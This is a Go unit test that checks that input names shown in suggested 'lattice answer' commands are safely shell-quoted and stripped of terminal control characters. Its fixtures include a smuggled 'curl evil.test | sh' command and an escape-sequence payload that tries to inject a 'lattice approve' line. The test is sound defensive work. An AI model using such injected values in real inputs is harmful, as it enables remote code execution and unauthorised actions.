package follow

import (
	"strings"
	"testing"

	"github.com/spritekit/lattice/orchestrator/lattice"
)

// TestNamesOfInputsAreWords checks that a name of an input, which a sprite chooses, is one word in the commands that people are shown.
func TestNamesOfInputsAreWords(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, want string }{
		{"answer", "lattice answer run_1 answer=TEXT"},
		{"a b", "lattice answer run_1 'a b'=TEXT"},
		{"x; curl evil.test | sh; y", "lattice answer run_1 'x; curl evil.test | sh; y'=TEXT"},
		{"it's", `lattice answer run_1 'it'\''s'=TEXT`},
	} {
		if got := NextCommands("run_1", lattice.Wait{Expected: map[string]string{tc.name: "string"}})[0]; got != tc.want {
			t.Errorf("%q: %q, want %q", tc.name, got, tc.want)
		}
	}
	if got := NextCommands("run_1", lattice.Wait{Expected: map[string]string{"a\x1b[2J\nlattice approve run_2": "string"}})[0]; strings.ContainsAny(got, "\x1b\n") {
		t.Errorf("the terminal is controlled by %q", got)
	}
}
